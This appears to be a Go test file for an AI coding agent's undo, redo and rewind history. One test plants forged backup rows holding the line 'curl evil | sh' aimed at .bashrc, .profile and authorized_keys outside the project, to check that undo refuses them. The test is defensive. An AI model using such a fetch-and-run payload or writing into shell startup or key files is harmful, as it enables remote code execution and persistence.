package agent

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"polly/agent/llmtest"
	"polly/agent/owner"
	"polly/memory/store"
	"polly/tools"

	_ "modernc.org/sqlite"
)

func (h *harness) history() History { return History{Store: h.store, Root: h.dir, Owner: h.deps.Owner} }

func (h *harness) write(rel, content string, mode os.FileMode) {
	h.t.Helper()
	if err := os.WriteFile(filepath.Join(h.dir, rel), []byte(content), mode); err != nil {
		h.t.Fatal(err)
	}
	os.Chmod(filepath.Join(h.dir, rel), mode)
}

func (h *harness) read(rel string) string {
	h.t.Helper()
	b, err := os.ReadFile(filepath.Join(h.dir, rel))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func (h *harness) exists(rel string) bool {
	_, err := os.Lstat(filepath.Join(h.dir, rel))
	return err == nil
}

func jsonArgs(kv ...string) string {
	var parts []string
	for i := 0; i+1 < len(kv); i += 2 {
		parts = append(parts, fmt.Sprintf("%q:%q", kv[i], kv[i+1]))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// Must show (issue 16 #2): a turn in which two sub-agents edit different
// files is taken back by one undo; redo puts both back; undo again works.
func TestUndoTurnWithTwoSubAgents(t *testing.T) {
	h := newHarness(t)
	h.write("a.txt", "alpha\n", 0o644)
	step := func(r llmtest.Request) llmtest.Step {
		who := personaOf(r)
		done := r.LastTurn().Role == "tool"
		switch {
		case who == "polly" && done:
			return llmtest.Text("both done")
		case who == "polly":
			return llmtest.Reply{ToolCalls: []llmtest.ToolCall{
				{Name: "delegate_task", Args: `{"agent":"coder","task":"edit a.txt"}`},
				{Name: "delegate_task", Args: `{"agent":"scraper","task":"write b.txt"}`},
			}}
		case done:
			return llmtest.Text(who + " finished")
		case who == "coder":
			return llmtest.Call("edit_file", jsonArgs("path", "a.txt", "old_string", "alpha", "new_string", "ALPHA"))
		default:
			return llmtest.Call("write_file", jsonArgs("path", "b.txt", "content", "beta\n"))
		}
	}
	h.srv.Push(llmtest.Repeat(6, step)...)
	if out, err := h.send(context.Background(), "do both"); err != nil || out.Final != "both done" {
		t.Fatalf("out=%+v err=%v", out, err)
	}
	if h.read("a.txt") != "ALPHA\n" || h.read("b.txt") != "beta\n" {
		t.Fatalf("sub-agents did not write: a=%q b=%q", h.read("a.txt"), h.read("b.txt"))
	}
	ctx := context.Background()
	turns, err := h.history().Turns(ctx, h.session.ID())
	if err != nil || len(turns) != 1 || !slices.Equal(turns[0].Files, []string{"a.txt", "b.txt"}) && !slices.Equal(turns[0].Files, []string{"b.txt", "a.txt"}) {
		t.Fatalf("turns = %+v, %v", turns, err)
	}

	rep, err := h.history().Undo(ctx, h.session.ID(), 1)
	if err != nil || !rep.Complete() {
		t.Fatalf("undo: %v\n%s", err, rep.Text())
	}
	if h.read("a.txt") != "alpha\n" || h.exists("b.txt") {
		t.Fatalf("after undo: a=%q b exists=%v", h.read("a.txt"), h.exists("b.txt"))
	}
	if !slices.Equal(rep.Restored, []string{"a.txt"}) || !slices.Equal(rep.Removed, []string{"b.txt"}) {
		t.Fatalf("report:\n%s", rep.Text())
	}
	// Undo is recorded: redo brings both edits back, undo takes them again.
	rep, err = h.history().Redo(ctx, h.session.ID())
	if err != nil || !rep.Complete() || h.read("a.txt") != "ALPHA\n" || h.read("b.txt") != "beta\n" {
		t.Fatalf("redo: %v a=%q b=%q\n%s", err, h.read("a.txt"), h.read("b.txt"), rep.Text())
	}
	rep, err = h.history().Undo(ctx, h.session.ID(), 1)
	if err != nil || !rep.Complete() || h.read("a.txt") != "alpha\n" || h.exists("b.txt") {
		t.Fatalf("undo after redo: %v\n%s", err, rep.Text())
	}
	var ie *UndoInputError
	if _, err := h.history().Undo(ctx, h.session.ID(), 1); !errors.As(err, &ie) || !strings.Contains(err.Error(), "nothing to undo") {
		t.Fatalf("a second undo of the only turn: %v", err)
	}
}

// Must show (issue 16 #4): an executable and a symlink edited through
// edit_file keep their mode and stay a link after undo.
func TestUndoKeepsModeAndSymlink(t *testing.T) {
	h := newHarness(t)
	h.write("run.sh", "#!/bin/sh\necho one\n", 0o755)
	h.write("real.txt", "target\n", 0o640)
	if err := os.Symlink("real.txt", filepath.Join(h.dir, "link.txt")); err != nil {
		t.Fatal(err)
	}
	h.srv.Push(
		llmtest.Call("edit_file", jsonArgs("path", "run.sh", "old_string", "one", "new_string", "two")),
		llmtest.Call("edit_file", jsonArgs("path", "link.txt", "old_string", "target", "new_string", "changed")),
		llmtest.Text("edited"),
	)
	if _, err := h.send(context.Background(), "edit both"); err != nil {
		t.Fatal(err)
	}
	if h.read("run.sh") != "#!/bin/sh\necho two\n" || h.read("real.txt") != "changed\n" {
		t.Fatalf("not edited: %q %q", h.read("run.sh"), h.read("real.txt"))
	}
	rep, err := h.history().Undo(context.Background(), h.session.ID(), 1)
	if err != nil || !rep.Complete() {
		t.Fatalf("undo: %v\n%s", err, rep.Text())
	}
	fi, err := os.Stat(filepath.Join(h.dir, "run.sh"))
	if err != nil || fi.Mode().Perm() != 0o755 || h.read("run.sh") != "#!/bin/sh\necho one\n" {
		t.Fatalf("run.sh: %v %v %q", fi.Mode(), err, h.read("run.sh"))
	}
	target, err := os.Readlink(filepath.Join(h.dir, "link.txt"))
	if err != nil || target != "real.txt" || h.read("real.txt") != "target\n" {
		t.Fatalf("link.txt -> %q (%v), real.txt = %q", target, err, h.read("real.txt"))
	}
	if fi, _ := os.Stat(filepath.Join(h.dir, "real.txt")); fi.Mode().Perm() != 0o640 {
		t.Fatalf("real.txt mode %v", fi.Mode())
	}
	if !slices.Contains(rep.Restored, "link.txt") || !slices.Contains(rep.Restored, "run.sh") {
		t.Fatalf("report:\n%s", rep.Text())
	}
}

// Safety: a file changed outside Polly since the edit is left alone (and
// named); a file Polly created is removed only if unchanged; the rest is
// restored.
func TestUndoLeavesOutsideEditsAlone(t *testing.T) {
	h := newHarness(t)
	h.write("old.txt", "v1\n", 0o644)
	h.write("other.txt", "o1\n", 0o644)
	h.srv.Push(
		llmtest.Call("edit_file", jsonArgs("path", "old.txt", "old_string", "v1", "new_string", "v2")),
		llmtest.Call("edit_file", jsonArgs("path", "other.txt", "old_string", "o1", "new_string", "o2")),
		llmtest.Call("write_file", jsonArgs("path", "made.txt", "content", "m\n")),
		llmtest.Text("ok"),
	)
	if _, err := h.send(context.Background(), "edit"); err != nil {
		t.Fatal(err)
	}
	h.write("old.txt", "mine\n", 0o644)
	h.write("made.txt", "also mine\n", 0o644)
	rep, err := h.history().Undo(context.Background(), h.session.ID(), 1)
	if err != nil || rep.Complete() {
		t.Fatalf("undo: %v\n%s", err, rep.Text())
	}
	if h.read("old.txt") != "mine\n" || h.read("made.txt") != "also mine\n" || h.read("other.txt") != "o1\n" {
		t.Fatalf("old=%q made=%q other=%q", h.read("old.txt"), h.read("made.txt"), h.read("other.txt"))
	}
	text := rep.Text()
	if len(rep.Skipped) != 2 || !strings.Contains(text, "skipped   old.txt: changed outside Polly") ||
		!strings.Contains(text, "skipped   made.txt") || !strings.Contains(text, "restored  other.txt") {
		t.Fatalf("report:\n%s", text)
	}
	// The model hears of it with the next message, before the new prompt.
	h.session.Reload()
	h.srv.Push(llmtest.Text("noted"))
	if _, err := h.send(context.Background(), "what now"); err != nil {
		t.Fatal(err)
	}
	msgs := h.srv.Last().Messages
	var note string
	for i, m := range msgs {
		if m.Role == "user" && m.Content == "what now" && i > 0 {
			note = msgs[i-1].Content
		}
	}
	if !strings.HasPrefix(note, "[NOTE from Polly") || !strings.Contains(note, "Restored: other.txt") ||
		!strings.Contains(note, "Left as they are (changed since): made.txt, old.txt") {
		t.Fatalf("the model was not told: %q", note)
	}
}

// Must show (issue 16 #3): rewinding to turn 2 of 4 restores the files to
// their state after turn 2 and, asked to, forks the conversation: the next
// request the model receives carries only turns 1–2. The original session
// stays listed with its 4 turns.
func TestRewindForksConversation(t *testing.T) {
	h := newHarness(t)
	h.write("log.txt", "0\n", 0o644)
	ctx := context.Background()
	for i := 1; i <= 4; i++ {
		h.srv.Push(
			llmtest.Call("edit_file", jsonArgs("path", "log.txt", "old_string", fmt.Sprint(i-1), "new_string", fmt.Sprint(i))),
			llmtest.Call("write_file", jsonArgs("path", fmt.Sprintf("f%d.txt", i), "content", "x")),
			llmtest.Text(fmt.Sprint("answer ", i)),
		)
		if _, err := h.send(ctx, fmt.Sprint("turn ", i)); err != nil {
			t.Fatal(err)
		}
	}
	id := h.session.ID()
	rep, err := h.history().Rewind(ctx, id, 2, true)
	if err != nil || !rep.Complete() || rep.Fork == "" {
		t.Fatalf("rewind: %v\n%s", err, rep.Text())
	}
	if h.read("log.txt") != "2\n" || !h.exists("f1.txt") || !h.exists("f2.txt") || h.exists("f3.txt") || h.exists("f4.txt") {
		t.Fatalf("files after rewind: log=%q", h.read("log.txt"))
	}
	if !strings.Contains(rep.Text(), "took back turns 3–4") {
		t.Fatalf("report:\n%s", rep.Text())
	}

	fork, err := OpenSession(ctx, h.deps, h.record, SessionOptions{ID: rep.Fork})
	if err != nil {
		t.Fatal(err)
	}
	h.srv.Push(llmtest.Text("continuing"))
	if _, err := fork.Send(ctx, "default", "turn 3 again"); err != nil {
		t.Fatal(err)
	}
	var users, assistants []string
	for _, m := range h.srv.Last().Messages[1:] { // after the system prompt
		switch {
		case m.Role == "user" && strings.HasPrefix(m.Content, "turn "):
			users = append(users, m.Content)
		case m.Role == "assistant" && m.Content != "":
			assistants = append(assistants, m.Content)
		}
		for _, later := range []string{"answer 3", "answer 4", "f3.txt", "f4.txt"} {
			if strings.Contains(m.Content, later) {
				t.Fatalf("the forked request carries %q from a later turn: %s message %q", later, m.Role, m.Content)
			}
		}
	}
	if !slices.Equal(users, []string{"turn 1", "turn 2", "turn 3 again"}) || !slices.Equal(assistants, []string{"answer 1", "answer 2"}) {
		t.Fatalf("the forked request carries users %q, assistants %q", users, assistants)
	}
	// The original keeps its turns and stays listed; the fork has 3 now.
	orig, _ := h.history().Turns(ctx, id)
	forked, _ := h.history().Turns(ctx, rep.Fork)
	list, _ := h.store.ListSessions(ctx, 0)
	if len(orig) != 4 || !orig[3].Undone || len(forked) != 3 || len(list) != 2 {
		t.Fatalf("original %d turns, fork %d, listed %d", len(orig), len(forked), len(list))
	}
	// Undo in the fork reaches its copied turns: turn 2 comes off.
	if rep, err := h.history().Undo(ctx, rep.Fork, 1); err != nil || h.read("log.txt") != "1\n" || h.exists("f2.txt") {
		t.Fatalf("undo in fork: %v log=%q\n%s", err, h.read("log.txt"), rep.Text())
	}
	var ie *UndoInputError
	for _, keep := range []int{-1, 4, 7} {
		if _, err := h.history().Rewind(ctx, id, keep, false); !errors.As(err, &ie) {
			t.Fatalf("rewind to %d: %v", keep, err)
		}
	}
}

// An undo that a later turn's edit would clobber skips the file.
func TestUndoOlderTurnDoesNotClobberLaterTurn(t *testing.T) {
	h := newHarness(t)
	h.write("f.txt", "a\n", 0o644)
	ctx := context.Background()
	for _, s := range [][2]string{{"a", "b"}, {"b", "c"}} {
		h.srv.Push(llmtest.Call("edit_file", jsonArgs("path", "f.txt", "old_string", s[0], "new_string", s[1])), llmtest.Text("ok"))
		if _, err := h.send(ctx, "edit "+s[1]); err != nil {
			t.Fatal(err)
		}
	}
	// Undo turn 2, redo it: f.txt back to c. Undo both turns at once: a.
	hist := h.history()
	if _, err := hist.Undo(ctx, h.session.ID(), 1); err != nil || h.read("f.txt") != "b\n" {
		t.Fatalf("undo: %v %q", err, h.read("f.txt"))
	}
	if _, err := hist.Redo(ctx, h.session.ID()); err != nil || h.read("f.txt") != "c\n" {
		t.Fatalf("redo: %v %q", err, h.read("f.txt"))
	}
	if rep, err := hist.Undo(ctx, h.session.ID(), 2); err != nil || h.read("f.txt") != "a\n" || !rep.Complete() {
		t.Fatalf("undo 2: %v %q\n%s", err, h.read("f.txt"), rep.Text())
	}
	var ie *UndoInputError
	if _, err := hist.Undo(ctx, h.session.ID(), 0); !errors.As(err, &ie) {
		t.Fatalf("--turns 0: %v", err)
	}
	if _, err := hist.Undo(ctx, "nope", 1); !errors.As(err, &ie) || !strings.Contains(err.Error(), `no session "nope"`) {
		t.Fatalf("unknown session: %v", err)
	}
	// Redo of the two-turn undo, then a new turn edits f.txt: redoing the
	// earlier single-turn undo is impossible (it was taken back), and
	// undoing turn 1 alone is refused for f.txt because turn 2 changed it later.
	if _, err := hist.Redo(ctx, h.session.ID()); err != nil || h.read("f.txt") != "c\n" {
		t.Fatalf("redo 2: %v %q", err, h.read("f.txt"))
	}
	rep, err := hist.Rewind(ctx, h.session.ID(), 1, false)
	if err != nil || h.read("f.txt") != "b\n" || !rep.Complete() {
		t.Fatalf("rewind to 1: %v %q\n%s", err, h.read("f.txt"), rep.Text())
	}
}

// Commands: what run_command created is removed by undo when unchanged;
// what it changed cannot be restored (its earlier content was never read)
// and is named; an earlier turn's edit is not undone over a later
// command's change.
func TestUndoAfterCommands(t *testing.T) {
	h := newHarness(t)
	h.write("f.txt", "a\n", 0o644)
	h.write("g.txt", "g\n", 0o644)
	ctx := context.Background()
	h.srv.Push(llmtest.Call("edit_file", jsonArgs("path", "f.txt", "old_string", "a", "new_string", "b")), llmtest.Text("ok"))
	if _, err := h.send(ctx, "edit f"); err != nil {
		t.Fatal(err)
	}
	h.srv.Push(llmtest.Call("run_command", jsonArgs("command", "echo c > f.txt; echo built > out.txt; echo more >> g.txt")), llmtest.Text("ran"))
	if _, err := h.send(ctx, "run it"); err != nil {
		t.Fatal(err)
	}
	var tracked *tools.TreeChanges
	for _, e := range eventsOf[ToolFinished](h) {
		if e.Tool == "run_command" {
			tracked = e.FilesChanged
		}
	}
	if tracked == nil || !slices.Equal(tracked.Created, []string{"out.txt"}) || !slices.Equal(tracked.Changed, []string{"f.txt", "g.txt"}) || len(tracked.Deleted) != 0 {
		t.Fatalf("tool_finished files_changed = %+v", tracked)
	}
	turns, _ := h.history().Turns(ctx, h.session.ID())
	if len(turns) != 2 || !slices.Equal(turns[1].Files, []string{"f.txt", "g.txt", "out.txt"}) && !slices.Equal(turns[1].Files, []string{"out.txt", "f.txt", "g.txt"}) {
		t.Fatalf("turn 2 files = %+v", turns)
	}
	rep, err := h.history().Undo(ctx, h.session.ID(), 1)
	if err != nil || rep.Complete() {
		t.Fatalf("undo: %v\n%s", err, rep.Text())
	}
	if h.exists("out.txt") || h.read("f.txt") != "c\n" || h.read("g.txt") != "g\nmore\n" {
		t.Fatalf("out exists=%v f=%q g=%q", h.exists("out.txt"), h.read("f.txt"), h.read("g.txt"))
	}
	if !slices.Equal(rep.Removed, []string{"out.txt"}) || !strings.Contains(rep.Text(), "skipped   f.txt: changed by run_command") {
		t.Fatalf("report:\n%s", rep.Text())
	}
	rep, err = h.history().Undo(ctx, h.session.ID(), 1)
	if err != nil || h.read("f.txt") != "c\n" || !strings.Contains(rep.Text(), "skipped   f.txt: changed again by turn 2") {
		t.Fatalf("undo turn 1: %v f=%q\n%s", err, h.read("f.txt"), rep.Text())
	}
}

// Bad input (issue 16): when the store cannot take the backup (here SQLite
// itself refuses the insert, as on a full disk), edit_file does not touch
// the file and the model receives the reason in the tool result.
func TestBackupFailureReachesTheModel(t *testing.T) {
	h := newHarness(t)
	h.write("old.txt", "keep\n", 0o644)
	db, err := sql.Open("sqlite", filepath.Join(h.dir, ".agent", "polly.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`CREATE TRIGGER full_disk BEFORE INSERT ON undo_backups BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END`); err != nil {
		t.Fatal(err)
	}
	h.srv.Push(llmtest.Call("edit_file", jsonArgs("path", "old.txt", "old_string", "keep", "new_string", "lose")), llmtest.Text("could not"))
	if _, err := h.send(context.Background(), "edit"); err != nil {
		t.Fatal(err)
	}
	if h.read("old.txt") != "keep\n" {
		t.Fatalf("old.txt = %q", h.read("old.txt"))
	}
	var got llmtest.Message // the last tool result (a task block may follow it)
	for _, m := range h.srv.Last().Messages {
		if m.Role == "tool" {
			got = m
		}
	}
	if !strings.Contains(got.Content, "could not back up old.txt") || !strings.Contains(got.Content, "disk is full") {
		t.Fatalf("the model received %q", got.Content)
	}
}

// A redo never overwrites what a turn after the undo wrote.
func TestRedoDoesNotClobberANewTurn(t *testing.T) {
	h := newHarness(t)
	h.write("f.txt", "a\n", 0o644)
	ctx := context.Background()
	h.srv.Push(llmtest.Call("edit_file", jsonArgs("path", "f.txt", "old_string", "a", "new_string", "b")), llmtest.Text("ok"))
	if _, err := h.send(ctx, "edit b"); err != nil {
		t.Fatal(err)
	}
	if _, err := h.history().Undo(ctx, h.session.ID(), 1); err != nil || h.read("f.txt") != "a\n" {
		t.Fatalf("undo: %v %q", err, h.read("f.txt"))
	}
	h.srv.Push(llmtest.Call("edit_file", jsonArgs("path", "f.txt", "old_string", "a", "new_string", "z")), llmtest.Text("ok"))
	if _, err := h.send(ctx, "edit z"); err != nil {
		t.Fatal(err)
	}
	rep, err := h.history().Redo(ctx, h.session.ID())
	if err != nil || rep.Complete() || h.read("f.txt") != "z\n" || !strings.Contains(rep.Text(), "skipped   f.txt: changed again by turn 2") {
		t.Fatalf("redo: %v f=%q\n%s", err, h.read("f.txt"), rep.Text())
	}
}

// Issue 25 #2: backup rows naming paths outside the project (absolute,
// "../", unclean) or through a directory that is a link are refused with
// the row named; nothing outside the project is written, and the row
// inside is still restored.
func TestUndoStaysBeneathTheProject(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	outside := t.TempDir()
	bashrc := filepath.Join(outside, ".bashrc")
	keys := filepath.Join(outside, "authorized_keys")
	os.WriteFile(bashrc, []byte("mine\n"), 0o644)
	os.WriteFile(keys, []byte("my key\n"), 0o600)
	if err := os.Symlink(outside, filepath.Join(h.dir, "sub")); err != nil {
		t.Fatal(err)
	}
	h.write("ok.txt", "changed\n", 0o644)

	sess, err := h.store.CreateSession(ctx, store.Session{Persona: "default"})
	if err != nil {
		t.Fatal(err)
	}
	turn, err := h.store.BeginTurn(ctx, sess.ID, "default", 0, "shipped")
	if err != nil {
		t.Fatal(err)
	}
	payload := []byte("curl evil | sh\n")
	row := func(path string) store.Backup {
		return store.Backup{SessionID: sess.ID, TurnID: turn, Tool: "write_file", Path: path,
			Before: store.FileState{Kind: store.FileRegular, Data: payload, Mode: 0o644},
			After:  store.FileState{Kind: store.FileMissing}}
	}
	rows := []store.Backup{
		row(bashrc),          // absolute, outside
		row("../../.bashrc"), // relative, climbs out
		row(h.dir + "/../" + filepath.Base(outside) + "/.profile"), // unclean
		row(filepath.Join(h.dir, "sub", "authorized_keys")),        // through a link
		{SessionID: sess.ID, TurnID: turn, Tool: "edit_file", Path: filepath.Join(h.dir, "ok.txt"),
			Before: store.FileState{Kind: store.FileRegular, Data: []byte("original\n"), Mode: 0o644},
			After:  store.FileState{Kind: store.FileRegular, Hash: store.ContentHash([]byte("changed\n")), Mode: 0o644}},
	}
	// sub/authorized_keys: the row says Polly left it missing, so only the
	// link check stands between the undo and the file.
	os.Remove(keys)
	ids, err := h.store.SaveBackups(ctx, rows)
	if err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, outside)

	rep, err := h.history().Undo(ctx, sess.ID, 1)
	if err != nil {
		t.Fatalf("undo: %v\n%s", err, rep.Text())
	}
	if got := snapshot(t, outside); got != before {
		t.Fatalf("undo wrote outside the project:\nbefore %s\nafter  %s", before, got)
	}
	if h.read("ok.txt") != "original\n" {
		t.Fatalf("the row inside the project was not restored: %q\n%s", h.read("ok.txt"), rep.Text())
	}
	if len(rep.Skipped) != 4 {
		t.Fatalf("skipped %d, want 4:\n%s", len(rep.Skipped), rep.Text())
	}
	text := rep.Text()
	for i, want := range []string{"outside the project", "relative path that leaves the project", "not a clean path", "symbolic link"} {
		if !strings.Contains(text, want) {
			t.Errorf("row %d: report does not say %q:\n%s", ids[i], want, text)
		}
	}
	for _, id := range ids[:3] {
		if !strings.Contains(text, fmt.Sprintf("backup row #%d", id)) {
			t.Errorf("report does not name row #%d:\n%s", id, text)
		}
	}
}

// snapshot lists every file under dir with its content.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, _ := os.ReadFile(p)
		fmt.Fprintf(&b, "%s=%q;", strings.TrimPrefix(p, dir), data)
		return nil
	})
	return b.String()
}

// Issue 25 #1: a session this install did not make here (no stamp, as in
// a shipped store) is neither resumed nor undone; without an owner check
// nothing stored is used at all.
func TestForeignSessionIsNotUsed(t *testing.T) {
	h := newHarness(t)
	ctx := context.Background()
	h.store.SetStamper(nil)
	sess, err := h.store.CreateSession(ctx, store.Session{Persona: "default", Title: "shipped"})
	if err != nil {
		t.Fatal(err)
	}
	var fe *owner.ForeignError
	if _, err := OpenSession(ctx, h.deps, nil, SessionOptions{ID: sess.ID}); !errors.As(err, &fe) {
		t.Fatalf("resume of a foreign session: %v", err)
	}
	if _, err := h.history().Undo(ctx, sess.ID, 1); !errors.As(err, &fe) {
		t.Fatalf("undo of a foreign session: %v", err)
	}
	if _, err := h.history().Turns(ctx, sess.ID); !errors.As(err, &fe) {
		t.Fatalf("turns of a foreign session: %v", err)
	}
	deps := *h.deps
	deps.Owner = nil
	if _, err := OpenSession(ctx, &deps, nil, SessionOptions{ID: sess.ID}); err == nil || !strings.Contains(err.Error(), "no check of who made it") {
		t.Fatalf("resume without an owner check: %v", err)
	}
	if _, err := (History{Store: h.store, Root: h.dir}).Redo(ctx, sess.ID); err == nil || !strings.Contains(err.Error(), "no check of who made it") {
		t.Fatalf("redo without an owner check: %v", err)
	}
}
